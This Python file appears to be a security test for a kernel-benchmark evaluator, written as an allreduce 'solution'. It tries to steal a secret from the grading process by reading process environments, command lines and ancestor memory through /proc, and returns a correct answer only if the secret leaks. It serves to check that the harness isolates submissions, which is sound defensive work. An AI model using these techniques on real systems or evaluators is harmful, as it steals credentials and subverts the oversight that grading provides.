"""Look for a secret of the evaluating process: the environment variable PKB_ATTACK_SECRET (32 hex
digits) that the test sets in the process that calls `evaluate`.

VARIANT "environ": this process's environment, and /proc/<pid>/environ of every process it can see.
VARIANT "mem": the writable anonymous memory (heap, stack, anonymous maps) of each ancestor
(/proc/<pid>/maps, then /proc/<pid>/mem), within MEM_BUDGET bytes and MEM_SECONDS per process.
VARIANT "cmdline": /proc/<pid>/cmdline of every process it can see.

If it finds the secret it prints "PKB-ATTACK-FOUND <secret>" and returns the honest sum; if not, it
returns zeros. So the evaluation is `correct` only if the secret leaked.

Problem: allreduce. The judge must report it not `correct`, and the secret must not appear in the
document.
"""

import os
import re
import time

import torch
import torch.distributed as dist

VARIANT = "environ"
NAME = b"PKB_ATTACK_SECRET="
PATTERN = re.compile(re.escape(NAME) + rb"([0-9a-f]{32})")
MEM_BUDGET = 1 << 30
MEM_SECONDS = 5.0
CHUNK = 8 << 20

_found = []
_searched = []


def _pids() -> list[int]:
    try:
        return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    except OSError:
        return []


def _ancestors() -> list[int]:
    chain, pid = [], os.getppid()
    while pid > 1 and pid not in chain:
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return chain


def _search(data: bytes) -> str | None:
    match = PATTERN.search(data)
    return match.group(1).decode() if match else None


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20)
    except OSError:
        return b""


def _scan_memory(pid: int) -> str | None:
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return None
    budget, deadline, tail = MEM_BUDGET, time.monotonic() + MEM_SECONDS, b""
    with mem:
        for line in maps:
            parts = line.split()
            where = parts[5] if len(parts) > 5 else ""
            if not parts[1].startswith("rw") or where not in ("", "[heap]", "[stack]"):
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            while start < end and budget > 0 and time.monotonic() < deadline:
                n = min(CHUNK, end - start, budget)
                try:
                    mem.seek(start)
                    data = mem.read(n)
                except (OSError, OverflowError, ValueError):
                    break
                found = _search(tail + data)
                if found:
                    return found
                tail = data[-64:]
                start, budget = start + n, budget - n
    return None


def _look() -> str | None:
    if VARIANT == "environ":
        found = _search(b"\0".join(k.encode() + b"=" + v.encode() for k, v in os.environ.items()))
        for pid in _pids():
            found = found or _search(_read(f"/proc/{pid}/environ"))
        return found
    if VARIANT == "cmdline":
        for pid in _pids():
            cmdline = _read(f"/proc/{pid}/cmdline").replace(b"\0", b" ")
            found = _search(cmdline) or _search(cmdline.replace(b"PKB_ATTACK_SECRET ", NAME))
            if found:
                return found
        return None
    if VARIANT == "mem":
        for pid in _ancestors():
            found = _scan_memory(pid)
            if found:
                return found
        return None
    raise ValueError(f"unknown variant {VARIANT!r}")


@torch.no_grad()
def solution(tensor):
    if not _searched:
        _searched.append(True)
        found = _look()
        if found:
            _found.append(found)
            print(f"PKB-ATTACK-FOUND {found}", flush=True)
    # The ranks agree, so that a rank that found it never waits for one that did not.
    ok = torch.tensor([int(bool(_found))], dtype=torch.int32, device=tensor.device)
    dist.all_reduce(ok, op=dist.ReduceOp.MAX)
    if ok.item():
        dist.all_reduce(tensor, op=dist.ReduceOp.SUM)
        return tensor
    return tensor.zero_()
